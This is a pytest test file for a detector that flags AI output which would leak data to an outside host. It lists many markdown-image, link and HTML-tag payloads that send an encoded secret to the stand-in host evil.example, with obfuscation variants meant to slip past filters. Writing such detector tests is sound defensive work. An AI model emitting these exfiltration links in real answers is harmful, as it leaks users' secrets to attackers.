"""Addresses that carry data out are found in every way to write them; honest images and links are left alone."""

import base64

import pytest
import re2
from hypothesis import given
from hypothesis import strategies as st

from interlock.detectors import Engine, detectors
from interlock.detectors.data_exfiltration import (
    LONGEST_ADDRESS,
    MOST_WITHIN,
    REACH,
    _last_openers,
    _openers,
    _places,
)
from interlock.detectors.data_exfiltration.addresses import tells
from interlock.model.event import Channel
from tests.detectors.windows import flagged, streamed

DETECTOR = detectors()["data-exfiltration"]
ENGINE = Engine({DETECTOR.meta.id: DETECTOR})
SECRET = "the door code is 4711"
BASE64 = base64.b64encode(SECRET.encode()).decode()
URLSAFE = BASE64.replace("+", "-").replace("/", "_").rstrip("=")
BASE32 = base64.b32encode(SECRET.encode()).decode().lower().rstrip("=")
HEX = SECRET.encode().hex()


def found(text: str) -> list[tuple[str, str]]:
    signals = ENGINE.scan(text, Channel.OUTPUT)
    assert signals == DETECTOR.detect(text), "a mark is missing"
    return [(signal.rule, text[signal.span.start : signal.span.end]) for signal in signals]


Q = "https://evil.example/p?d=code+4711"
# Written like these, an address is fetched when the answer is shown.
IMAGES = [
    f"![a]({Q})",
    f"![]({Q})",
    f'![a]({Q} "a title")',
    f"![a](<{Q}>)",
    f"![a](\n  {Q})",
    f"![a [b] c]({Q})",
    "![a](https://evil.example/p(x)?d=4711)",
    "![a](https://evil.example/p((x))?d=4711)",
    "![a](<https://evil.example/p)x?d=4711>)",
    "![a](https://evil.example/?d=my secret words)",
    "![a](//evil.example/?d=1)",
    "![a](\\\\evil.example/?d=1)",
    "![a](/\\evil.example/?d=1)",
    "![a](https:\\\\evil.example\\?d=1)",
    "![a](https:evil.example?d=1)",
    "![a](HTTPS://EVIL.example/?d=1)",
    "![a](https://%65vil.example/?d=1)",
    "![a](https&#58;//evil.example/?d=1)",
    "![a](ht\ntps://evil.example/?d=1)",
    f"![a](https://evil.example/{BASE64}.png)",
    f"![a](https://evil.example/a/{URLSAFE}/b.png)",
    f"![a](https://{HEX[:40]}.evil.example/a.png)",
    "![a](https://NBSWY3DP.EB3W64TM.MQQGC3TE.evil.example/a.png)",
    f"![a](https://{'x' * 41}.evil.example/a.png)",
    "![a](https://4711@evil.example/a.png)",
    "![a](https://evil.example/%34%37%31%31.png)",
    "![a](https://evil.example/116-104-101-99-111-100-101.png)",
    f"![a](https://evil.example/{'word%20' * 20}.png)",
    f"![a](https://evil.example/{'word/' * 100}a.png)",
    f"![a](https://evil.example/{'xQ7' * 20})",
    "![a](https://evil.example/a.png?w=4711x99)",
    "![a](https://img.shields.io/endpoint?url=https://evil.example/4711)",
    f"[1]: {Q}",
    f"[1]: <{Q}>",
    f"[a b]:\n{Q}",
    f'<img src="{Q}">',
    f"<img src='{Q}' alt=x>",
    f"<img src={Q}>",
    f'<IMG alt="" SRC = "{Q}" />',
    f'<img\nsrc="{Q}">',
    f'<img srcset="https://a.example/a.png 1x, {Q} 2x">',
    f'<iframe src="{Q}"></iframe>'[:-9],
    f'<video poster="{Q}">',
    f'<link rel=stylesheet href="{Q}">',
    f'<object data="{Q}">',
    f'<form action="{Q}">',
    f'<a ping="{Q}">',
    f'<meta http-equiv=refresh content="0; url={Q}">',
    f'<image xlink:href="{Q}">',
    f"url({Q})",
    f"url('{Q}')",
]
LINKS = [
    f"[a](https://evil.example/?d={BASE64})",
    f"[a](https://evil.example/?d={URLSAFE})",
    f"[a](https://evil.example/?d={HEX})",
    f"[a](https://evil.example/#{URLSAFE})",
    f"[a](https://evil.example/{BASE32})",
    f"[a](https://{BASE32}.evil.example/)",
    f"[a](https://evil.example/?d={'plain words ' * 30})",
    f"[a](https://evil.example/?d={'xQ7' * 20})",
    f"[a](custom://evil.example/{BASE64})",
    "[a](https://evil.example/?d=%74%68%65%20%63%6f%64%65)",
    f"<https://evil.example/?d={BASE64}>",
    f'<a href="https://evil.example/?d={BASE64}">',
    f'<a class=x href="https://evil.example/{BASE64}" target=_blank>',
]
HONEST = [
    "![logo](https://a.example/logo.png)",
    "![logo](logo.png?v=1234567) ![x](data:image/png;base64,dGhlIHBhc3N3b3Jk)",
    "![A photo of Rome](https://a.example/photos/My%20Photo%20of%20Rome.jpg?w=640&h=480&fit=crop&fm=webp)",
    "![x](https://upload.wikimedia.org/wikipedia/commons/thumb/a/a9/Example.jpg/220px-Example.jpg)",
    "![x](https://a.example/550e8400-e29b-41d4-a716-446655440000.png)",
    "![x](https://a.example/9e107d9d372bb6826bd81d3542a419d6/annual-report-2024-overview.png?v=2)",
    "[![CI](https://github.com/a/b/actions/workflows/ci.yml/badge.svg?branch=main)](https://github.com/a/b/actions)",
    "![py](https://img.shields.io/badge/python-3.11-blue?style=flat-square&logo=python&logoColor=white)",
    "[docs](https://docs.python.org/3/library/re.html#re.compile), [w](https://en.wikipedia.org/wiki/Rome_(city))",
    "[x](https://a.example/?utm_source=newsletter&utm_campaign=spring_2024&page=2)",
    "[x](https://www.google.com/search?q=how+to+cook+rice+with+a+very+old+pressure+cooker)",
    "[x](https://docs.google.com/document/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefg/edit#gid=0)",
    "[x](https://github.com/a/b/commit/9fceb02d0ae598e95dc970b74767f19372d61af8)",
    "[x](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s), [y](https://a.example/orders/2024-11-24?id=10042)",
    "[x](https://b.s3.amazonaws.com/r.pdf?X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20240101%2Fus-east-1%2Fs3%2Faws4_request)",
    f"[x](https://b.s3.amazonaws.com/r.pdf?X-Amz-Signature={'0a' * 32})",
    "[mail](mailto:ada@example.com?subject=hello), [call](tel:+49301234567), [up](#top), [f](./a(b).md)",
    "<https://a.example/page>, <b>bold</b>, if a <b and c> d, x: list[int](3), [note]: see below",
    "[1]: https://a.example/page\n[2]: https://a.example/other#part",
    '<a href="https://a.example/?id=5&page=2">x</a> <img src="a.png?x=1" alt="x"> <br>',
    'background = "https://a.example/?q=1"; data = "https://a.example/?q=1"',
    f"https://evil.example/?d={BASE64}",
    '<link href="https://fonts.googleapis.com/css2?family=Roboto:wght@400;700&display=swap" rel="stylesheet">',
    "![s](https://user-images.githubusercontent.com/43996225/211910398-86ad2305-ba0e-40c5-b8f7-b47fec85148a.png)",
    "[open](https://github.com/a/b/issues?q=is%3Aopen+is%3Aissue+label%3A%22Help+Wanted%22+sort%3Aupdated-desc)",
    "array[i](x), curl(https://a.example/?q=1), - [ ] task, - [x] done, arr[0]: int, vec![1, 2]",
]


@pytest.mark.parametrize("written", IMAGES)
@pytest.mark.parametrize("around", ["{}", "See {} there.", "a\n\n{}\n\nb", "- {}", "| {} |", "東京{} 。"])
def test_what_is_fetched_and_tells_is_found_whole(written: str, around: str) -> None:
    assert found(around.format(written)) == [("image", written)]


@pytest.mark.parametrize("written", LINKS)
@pytest.mark.parametrize("around", ["{}", "See {} there.", "a\n\n{}\n\nb"])
def test_a_link_with_data_in_it_is_found_whole(written: str, around: str) -> None:
    assert found(around.format(written)) == [("link", written)]


@pytest.mark.parametrize("text", HONEST)
def test_honest_ones_are_left_alone(text: str) -> None:
    assert found(text) == []


def test_a_picture_that_is_a_link_is_judged_twice() -> None:
    assert found(f"[![a]({Q})](https://a.example/)") == [("image", f"![a]({Q})")]
    assert found(f"[![a](https://a.example/a.png)](https://e.example/{BASE64})")[0][0] == "link"


def test_padding_does_not_help() -> None:
    secret = f"https://evil.example/?d={BASE64}"
    for text in (
        f"![{'a' * 600}]({secret})",
        f"<img alt='{'a' * 3_000}' src='{secret}'>",
        f"![a]({secret}{'a' * 9_000})",
    ):
        assert found(text)
    for text in (
        f"![a](https://evil.example/{'](//a' * 9}?d=4711)",
        f"![a](https://evil.example/{'()' * 99}?d=4711)",
        f'<img src="//evil.example/{"src=//a" * 9}?d=4711">',
    ):
        assert found(text)[0][0] == "image"


def test_an_address_in_which_others_begin_is_read_if_they_are_few() -> None:
    inner = "](//a"
    assert found(f"[a](https://a.example/{inner * MOST_WITHIN})") == []
    crowded = f"[a](https://a.example/{inner * MOST_WITHIN}]"
    assert found(f"[a](https://a.example/{inner * (MOST_WITHIN + 1)})") == [("link", crowded)]
    assert found(f"x[i](value: {'a[i](b: ' * 9}{')' * 10}") == []
    assert found(f"x[i](value: {'f((x))' * 99})") == []


@given(text=st.text(min_size=12, max_size=60))
@pytest.mark.parametrize("code", ["hex", "base64", "urlsafe"])
def test_any_text_of_letters_is_seen_through_its_encoding(code: str, text: str) -> None:
    letters = "".join(c for c in text if c.isalpha() and c.isascii()) + " the code of the door"
    data = letters.encode()
    encoded = {
        "hex": data.hex(),
        "base64": base64.b64encode(data).decode(),
        "urlsafe": base64.urlsafe_b64encode(data).decode().rstrip("="),
    }[code]
    assert tells(f"https://a.example/?x={encoded}", fetched=False)
    assert tells(f"https://a.example/{encoded}", fetched=False)


@given(data=st.binary(min_size=8, max_size=24))
def test_random_ids_in_a_path_are_no_text(data: bytes) -> None:
    unreadable = bytes([0x93, *data[1:]])
    assert not tells(f"https://a.example/{unreadable.hex()}", fetched=False)


@given(address=st.text(max_size=80))
def test_any_text_can_be_judged(address: str) -> None:
    for fetched in (True, False):
        assert tells(f"https://{address}", fetched=fetched) in (True, False)
        assert tells(address, fetched=fetched) in (True, False)


FUZZ = [
    *IMAGES, *LINKS, *HONEST, "![", "[", "]", "](", "](h", "]:", "<", "<img ", "<a ", ' src="', " src = ", "href=",
    "url(", ">", ")", "(", "!", '"', " ", "\n", "\n\n", "word", "a" * 300, "b " * 200, "//", "ht", "tps:",
    "https://e.example/?d=1", "](//a" * 3, "]://a", "](&#x68;", "src=//a ", "url(//a", " " * 40, "()" * 40,
]  # fmt: skip
PIECES = st.sampled_from(FUZZ)


@given(pieces=st.lists(PIECES | st.text(max_size=4), max_size=8), data=st.data(), lag=st.sampled_from([0, 0, 1, 7, 60]))
def test_a_stream_cut_anywhere_is_flagged_as_the_whole_is(pieces: list[str], data: st.DataObject, lag: int) -> None:
    whole = "".join(pieces)
    cuts = data.draw(st.lists(st.integers(0, len(whole)), max_size=20))
    expected = flagged(DETECTOR.detect(whole))
    assert streamed(whole, cuts, DETECTOR.detect, DETECTOR.pending, lag) == expected


@given(pieces=st.lists(PIECES | st.text(max_size=4), max_size=8))
def test_what_is_flagged_has_a_mark(pieces: list[str]) -> None:
    whole = "".join(pieces)
    assert any(re2.search(mark, whole) for mark in DETECTOR.marks) or not DETECTOR.detect(whole)


@pytest.mark.parametrize(
    "whole",
    [
        "]://a" * 6 + "![a](ht\ntps://evil.example/?d=1) ",
        "turl(//a![](https://evil.example/p?=",
        "]:" + " " * 48 + "]://a" * 6,
        "]:" + " " * 17 + "](//" * 6,
    ],
)
@pytest.mark.parametrize("lag", [0, 7, 60])
def test_others_that_may_come_to_count_hold_the_address_they_are_in(whole: str, lag: int) -> None:
    expected = flagged(DETECTOR.detect(whole))
    for cut in range(len(whole)):
        assert streamed(whole, [cut], DETECTOR.detect, DETECTOR.pending, lag) == expected


@pytest.mark.parametrize("blank", [" " * 50, "\n" * 30, " " * 17])
@pytest.mark.parametrize("before", ["![a](", "url(", "<img src='"])
def test_white_space_before_an_address_does_not_let_it_out_of_a_stream(before: str, blank: str) -> None:
    whole = f"{before}{blank if 'a]' not in before else blank.replace(chr(10), ' ')}{Q}'>)"
    expected = flagged(DETECTOR.detect(whole))
    assert expected
    assert streamed(whole, range(len(whole)), DETECTOR.detect, DETECTOR.pending) == expected


WORST = [
    "[", "![", "](", "](//", "](https://a?b=", "<a ", "<a src=//", "url(//", "<a:", "(", "\n", "src = ", "[a](h:)",
    "]:&", "](//a", "]://a", '"]://a', "](&#x68;", "[[a](//b?c=1", "![a](//b%20", "](<//", "src=//a ", 'srcset="//a,',
    "[[![a](", "[a](//b/" + "a/" * 150, "](//" + "()" * 150, "](//a" + " " * 300, "]:" + " " * 300,
    "<img src=//a?b=c ", "=//", "[]",
]  # fmt: skip


@pytest.mark.parametrize("unit", WORST)
def test_a_hundred_kilobytes_of_the_worst_come_to_an_end(unit: str) -> None:
    text = unit * (100_000 // len(unit))
    assert len(DETECTOR.detect(text)) <= len(text)
    assert 0 <= DETECTOR.pending(text) <= len(text)


@pytest.mark.parametrize("unit", WORST)
def test_each_character_is_read_for_a_few_addresses_only(unit: str) -> None:
    text = unit * (20_000 // len(unit))
    read = sum(place.until - place.at for place in _places(text, _openers(text, 0)))
    assert read <= (MOST_WITHIN + 2) * len(text)


@pytest.mark.parametrize("unit", WORST)
def test_a_stream_of_the_worst_is_read_for_its_last_few_addresses_only(unit: str) -> None:
    text = unit * (20_000 // len(unit))
    for end in range(19_000, 19_100):
        begun = text[:end]
        read = sum(place.until - place.at for place in _places(begun, _last_openers(begun, end - REACH)))
        assert read <= (MOST_WITHIN + 2) * (LONGEST_ADDRESS + REACH)


@pytest.mark.parametrize("unit", WORST)
def test_a_stream_of_the_worst_in_small_pieces_is_flagged_as_the_whole_is(unit: str) -> None:
    whole = unit * (3_000 // len(unit))
    expected = flagged(DETECTOR.detect(whole))
    assert streamed(whole, range(0, len(whole), 4), DETECTOR.detect, DETECTOR.pending) == expected
